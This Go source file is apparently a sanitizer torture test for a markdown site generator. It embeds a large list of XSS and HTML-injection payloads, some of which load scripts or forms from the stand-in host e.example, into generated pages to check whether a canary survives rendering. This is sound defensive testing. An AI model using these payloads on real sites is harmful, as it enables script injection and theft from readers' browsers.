package torture

import (
	"encoding/json"
	"fmt"
	"strings"
)

// payloads are what is written into pages to run in readers' browsers. ZQ
// stands for a word that is found again in the outputs.
var payloads = []string{
	// Elements that act, in every way of writing them.
	`<script>alert("ZQ")</script>`, `<SCRIPT SRC=//e.example/ZQ.js></SCRIPT>`, `<script/src=data:,alert(1)>ZQ`, `<scr<script>ipt>ZQ</script>`, `<script >ZQ</script >`, "<script\x0c>ZQ</script>", "<script\n>ZQ</script\n>",
	`<script`, `</script><script>ZQ`, `<!--><script>ZQ</script>-->`, `<!-- --!><script>ZQ</script>`, `<![CDATA[<script>ZQ</script>]]>`, `<?php echo "ZQ" ?>`, `<?xml version="1.0"?><x>ZQ</x>`, `<!DOCTYPE html [<!ENTITY x "ZQ">]>`, `<%= ZQ %>`,
	`<style>@import "//e.example/ZQ";</style>`, `<style><img src="</style><img src=x onerror=ZQ>">`, `<link rel=stylesheet href=//e.example/ZQ.css>`, `<link rel="prefetch" href="//e.example/ZQ">`, `<link rel=manifest href=ZQ>`,
	`<meta http-equiv="refresh" content="0;url=javascript:ZQ">`, `<meta http-equiv="refresh" content="0;url=//e.example/ZQ">`, `<meta http-equiv=Content-Security-Policy content="script-src *">ZQ`, `<meta name=referrer content=unsafe-url>ZQ`, `<base href="//e.example/ZQ/">`, `<base target=_blank>ZQ`,
	`<iframe src=javascript:ZQ></iframe>`, `<iframe srcdoc="<script>ZQ</script>"></iframe>`, `<iframe/ ZQ`, `<frameset><frame src=//ZQ></frameset>`, `<object data=//e.example/ZQ></object>`, `<object type=text/html data=data:text/html,ZQ></object>`, `<embed src=//e.example/ZQ>`, `<applet code=ZQ></applet>`,
	`<form action=//e.example/ZQ><input name=a><button>go</button></form>`, `<form id=x></form><button form=x formaction=javascript:ZQ>X</button>`, `<input type=image src=//e/ZQ onerror=alert(1)>`, `<input autofocus onfocus=ZQ>`, `<button onclick=ZQ>x</button>`, `<select onchange=ZQ><option>a</select>`, `<textarea onfocus=ZQ autofocus>`, `<isindex action=javascript:ZQ>`, `<keygen autofocus onfocus=ZQ>`,
	`<video src=//e/ZQ onerror=alert(1)></video>`, `<video><source onerror="ZQ"></video>`, `<audio src=x onerror=ZQ>`, `<video poster=javascript:ZQ></video>`, `<track src=ZQ>`, `<canvas id=ZQ></canvas>`, `<marquee onstart=ZQ>x</marquee>`, `<bgsound src=javascript:ZQ>`, `<image src=x onerror=ZQ>`, `<dialog open>ZQ</dialog>`, `<portal src=//ZQ>`, `<slot onslotchange=ZQ></slot>`, `<fencedframe src=//ZQ>`,
	`<template><script>ZQ</script></template>`, `<template shadowrootmode=open><script>ZQ</script></template>`, `<noscript><p title="</noscript><img src=x onerror=ZQ>">`, `<noembed><img src=x onerror=ZQ></noembed>`, `<noframes><script>ZQ</script></noframes>`, `<xmp><script>ZQ</script></xmp>`, `<plaintext><script>ZQ`, `<listing><script>ZQ</script></listing>`, `<title><script>ZQ</script></title>`, `<textarea></textarea><script>ZQ</script>`,
	`<x-element onclick=ZQ>x</x-element>`, `<p is="x-ZQ">x</p>`, `<xss contenteditable onblur=ZQ>x`, `<a contenteditable onbeforeinput=ZQ>x</a>`,
	// Handlers and attributes on what is allowed.
	`<img src=x onerror=ZQ>`, `<img/src=x/onerror=ZQ>`, `<img src=x onerror="ZQ"`, `<img src="x" onerror
=ZQ>`, "<img src=x\tonerror\t=\tZQ>", `<img src=x oNeRrOr=ZQ>`, `<img src='x'onerror=ZQ>`, "<img src=x onerror=`ZQ`>", `<img """><script>ZQ</script>">`, `<img src=x:ZQ onerror=alert(1)//`, `<img srcset="javascript:ZQ 1x, //e 2x">`, `<img src=javascript:ZQ>`, `<img src="data:text/html,<script>ZQ</script>">`, `<img src="data:image/svg+xml,<svg onload=ZQ>">`, `<img lowsrc=javascript:ZQ dynsrc=javascript:ZQ>`, `<img usemap=#ZQ><map name=ZQ><area href=javascript:a></map>`,
	`<details open ontoggle=ZQ><summary>x</summary></details>`, `<div onmouseover=ZQ style="background:url(javascript:a)">x</div>`, `<div style="position:fixed;inset:0">ZQ</div>`, `<b style="behavior:url(ZQ)">x</b>`, `<p onclick=ZQ>x</p>`, `<table background=javascript:ZQ><tr><td background=javascript:ZQ>x</table>`, `<td onclick=ZQ>`, `<a onmouseover=ZQ href=x>x</a>`, `<a href=x ping=//e/ZQ>x</a>`, `<a href=x download=ZQ.exe>x</a>`, `<a href=x target=ZQ>x</a>`, `<a href=x attributionsrc=//e/ZQ>x</a>`,
	`<div data-find data-script="//e.example/ZQ.js">x</div>`, `<div data-root="//e/ZQ" data-search>x</div>`, `<div popover id=pb-every>ZQ</div>`, `<a popovertarget=ZQ href=x>x</a>`, `<p hidden=until-found onbeforematch=ZQ>x</p>`, `<p accesskey=x onclick=ZQ>x</p>`, `<p autofocus tabindex=1 onfocus=ZQ>x</p>`, `<p inert>ZQ</p>`, `<a id=location name=location href=x>ZQ</a>`, `<p id="pbFound">ZQ</p>`, `<time datetime='"><script>ZQ</script>'>x</time>`,
	// Addresses.
	`[x](javascript:ZQ)`, `[x](JaVaScRiPt:ZQ)`, `[x](&#106;avascript:ZQ)`, `[x](java&#9;script:ZQ)`, `[x](java&Tab;script:ZQ)`, `[x](&#x6a&#x61vascript:ZQ)`, `[x](javascript&colon;ZQ)`, `[x](<java	script:ZQ>)`, "[x](\x01javascript:ZQ)", `[x](&#1;javascript:ZQ)`, `[x](vbscript:ZQ)`, `[x](data:text/html,<script>ZQ</script>)`, `[x](data:text/html;base64,ZQ)`, `[x](file:///etc/ZQ)`, `[x](blob:ZQ)`, `[x](filesystem:ZQ)`, `[x](view-source:ZQ)`, `[x](livescript:ZQ)`, `[x](mocha:ZQ)`, `[x](intent:ZQ)`, `[x](ms-word:ofe|u|ZQ)`, `[x](jar:ZQ)`, `[x](feed:javascript:ZQ)`,
	`[x](java\script:ZQ)`, `[x](javascript\:ZQ)`, `[x](%6aavascript:ZQ)`, `[x](//e.example/ZQ)`, `[x](\\e.example\ZQ)`, `[x](/\e.example/ZQ)`, `[x](./javascript:ZQ)`, `[x](?javascript:ZQ)`, `[x](#"onclick="ZQ)`, `[x](x"onmouseover="ZQ)`, `[x](<x"><script>ZQ</script>>)`, `[x](x 'y" onclick="ZQ')`, `[x](x "y\" onclick=\"ZQ")`, `<javascript:ZQ>`, `<data:text/html,ZQ>`, `<vbscript:ZQ>`, `<JAVASCRIPT:ZQ>`, `<https://e.example/"onclick=ZQ>`, `<a@b.example"onclick=ZQ>`, `https://e.example/"onclick="ZQ`, `www.e.example/<script>ZQ`,
	"[x][r]\n\n[r]: javascript:ZQ", "[x][r]\n\n[r]: x 'y\" onclick=ZQ \"'", "[r]: <javascript:ZQ>\n\n![r]", `![x](javascript:ZQ)`, `![x](data:image/svg+xml;base64,ZQ)`, `![x"onerror="ZQ](x.png)`, `![x](x.png "t\" onerror=\"ZQ")`, `![<script>ZQ</script>](a.png)`, `[![x](javascript:ZQ)](javascript:ZQ)`,
	`<a href="javascript:ZQ">x</a>`, `<a href=" javascript:ZQ">x</a>`, "<a href=\"jav\nascript:ZQ\">x</a>", `<a href="jav&#x0A;ascript:ZQ">x</a>`, `<a href="&#0000106avascript:ZQ">x</a>`, `<a href="javascript&#58;ZQ">x</a>`, `<a href=javascript://%0aZQ>x</a>`, `<a href="data:text/html,ZQ">x</a>`, `<a xlink:href="javascript:ZQ">x</a>`, `<a href="x" href="javascript:ZQ">x</a>`, `<a href=java` + "\x00" + `script:ZQ>x</a>`, "<a href=\"\u2028javascript:ZQ\">x</a>", `<blockquote cite=javascript:ZQ>x</blockquote>`, `<q cite="javascript:ZQ">x</q>`, `<del cite=javascript:ZQ>x</del>`,
	// SVG, MathML, and what changes when it is read again.
	`<svg onload=ZQ>`, `<svg><script>ZQ</script></svg>`, `<svg><a xlink:href=javascript:ZQ><text>x</text></a></svg>`, `<svg><animate onbegin=ZQ attributeName=x>`, `<svg><set attributeName=href to=javascript:ZQ>`, `<svg><use href="data:image/svg+xml,ZQ#x"/></svg>`, `<svg><foreignObject><iframe src=javascript:ZQ></foreignObject></svg>`, `<svg><style><img src=x onerror=ZQ></style></svg>`, `<svg><desc><script>ZQ</script></desc></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=ZQ>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ZQ&gt;">`, `<math href="javascript:ZQ">x</math>`, `<math><mi xlink:href="data:x,<script>ZQ</script>">`, `<math><annotation-xml encoding="text/html"><script>ZQ</script>`, `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ZQ src>">`, `<table><td><svg><desc><td></desc></svg><img src=x onerror=ZQ>`, `<select><template><svg><script>ZQ</script>`, `<p><svg><p><title><style></title><img onerror=ZQ src></style>`, `<a><table><a><img src onerror=ZQ>`, `<details><summary><script>ZQ`, `<table><script>ZQ</script><tr><td>x`, `<b><p><i></b><script>ZQ</script>`, `</div></main></body></html><script>ZQ</script>`, `</article><div class="prose"><form>ZQ</form>`, `<pre><code></pre><script>ZQ</script>`, `<kbd title="</kbd><script>ZQ</script>">x</kbd>`, "<div>\n\n</div><script>ZQ</script>\n\n<div>", "<details>\n\n<script>\nZQ\n</script>\n\n</details>", "<ul><li>\n\n<img src=x onerror=ZQ>\n\n</ul>",
	// Markdown's own ways.
	"```\"><script>ZQ</script>\ncode\n```", "```html\n</code></pre><script>ZQ</script>\n```", "```js {onclick=ZQ}\nx\n```", "~~~</script><script>ZQ\nx\n~~~", "    </pre><script>ZQ</script>", "`</code><script>ZQ</script>`", `## Head {#x onclick=ZQ}`, `## Head {onclick="ZQ"}`, `## Head {.a style="ZQ"}`, `## Head {#"><script>ZQ</script>}`, `## Head {data-find=1 data-script=//e/ZQ}`, `## <img src=x onerror=ZQ>`, `[words]{onclick=ZQ}`, `[words]{.a" onclick="ZQ}`, `[words]{#x style=ZQ}`, `[words]{.</style><script>ZQ}`,
	`[[<script>ZQ</script>]]`, `[[one|<script>ZQ</script>]]`, `[[one#"><script>ZQ</script>]]`, `[[javascript:ZQ]]`, `![[<script>ZQ</script>]]`, `![[one#<img src=x onerror=ZQ>]]`, `[[one.title.<b>ZQ]]`, `[[../../../etc/ZQ]]`, `[^ZQ"><script>]`, "[^1]\n\n[^1]: <script>ZQ</script>", "[^<script>ZQ]: a\n\n[^<script>ZQ]", "Term\n: <script>ZQ</script>", "> [!NOTE] <script>ZQ</script>\n> x", "> [!\"><script>ZQ</script>]\n> x", ":::tip[<script>ZQ</script>]\nx\n:::", ":::\"><script>ZQ</script>\nx\n:::", "| <script>ZQ</script> |\n|---|\n| <img src=x onerror=ZQ> |", "- [ ] <script>ZQ</script>\n- [x] <img src=x onerror=ZQ>", "1. <svg/onload=ZQ>", "***<script>ZQ</script>***", "~~<script>ZQ</script>~~", "<!-- ZQ --><script>a</script>", `&lt;script&gt;ZQ&lt;/script&gt;`, `&#60;script>ZQ&#60;/script>`, `\<script>ZQ\</script>`, `{{ .ZQ }} {{ "<script>" | safeHTML }}`, `{% raw %}ZQ{% endraw %} {{< script >}}`, `<!-- pb:hole ZQ -->`, `$$<script>ZQ</script>$$`, "+ADw-script+AD4-ZQ+ADw-/script+AD4-", "\xc0\xbcscript\xc0\xbeZQ", "\u202e<script>ZQ</script>\u202c", "\ufeff<script>ZQ</script>", "\uff1cscript\uff1eZQ", "ZQ\x1b]0;title\x07\x1b[31m", "ZQ\u2028</script>\u2029", "ZQ\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:x", "ZQ]]><script>a</script>", "ZQ --><script>a</script>", `ZQ\"});alert(1);pbFound({"`, `ZQ</title></head><script>a</script>`, `ZQ" /><link href="javascript:a"/>`,
}

// canary is the word by which the nth payload is found again.
func canary(n int) string { return fmt.Sprintf("zq%dx", n) }

// pages puts a payload into pages of several kinds, into what is shown of them
// in as many places as there are.
func pages(n int) map[string]string {
	c := canary(n)
	p := strings.ReplaceAll(payloads[n], "ZQ", c)
	q := func(s string) string { // as YAML's double quotes and JSON have it
		b, _ := json.Marshal(strings.ToValidUTF8(s, "?"))
		return string(b)
	}
	flat := strings.ReplaceAll(p, "\n", " ")
	cell := strings.ReplaceAll(flat, "|", `\|`)
	name := fmt.Sprintf("p%d", n)
	return map[string]string{
		"content/guides/" + name + ".md": "---\ntitle: " + q("T"+p) + "\ndescription: " + q(p) + "\ntags: [" + q(flat) + "]\nverified_by: " + q(p) + "\nverified_on: 2026-02-02\n---\n" +
			p + "\n\nBefore " + flat + " after\n\n## H" + flat + "\n\n> " + flat + "\n\n- " + flat + "\n\n| a | b |\n|---|---|\n| " + cell + " | x |\n\n[" + flat + "](one.md) ![" + flat + "](lead.txt)\n\n[[one|" + flat + "]]\n\n*" + flat + "* [" + flat + "]{.plain}\n\n" +
			p + "\n\nEnd " + name + "end.\n",
		"content/glossary/" + name + ".md": "---\ntitle: " + q("Word"+c+" "+p) + "\naliases: [" + q("also"+c+" "+flat) + "]\nstatus: disputed\nsettle_by: 2027-01-31\nowner: boss\ndefinitions:\n  marketing: " + q(p) + "\n  sales: " + q("x "+p) + "\nvalues: {v: " + q(p) + "}\n---\n" + p + "\n\nUsed: word" + c + ", [[" + name + ".values.v]].\n",
		"content/goals/" + name + ".md": "---\ntitle: " + q("Goal "+p) + "\nlevel: team\nowner: boss\nsupports: [top]\nmetric: " + q(p) + "\nunit: " + q(p) + "\nperiod: " + q(p) + "\nregion: " + q(p) + "\nsource: " + q(p) + "\ntarget: 10\nactual: 2\ndue: 2027-02-02\n---\n" +
			p + "\n\n![[guides/" + name + "#H" + "]]\n\n![[guides/" + name + "]]\n",
		"content/swot/" + name + ".md": "---\ntitle: " + q("S"+p) + "\nstrengths:\n  - {text: " + q(p) + "}\nthreats:\n  - {text: " + q(p) + ", weight: 3}\n---\n" + p + "\n",
	}
}
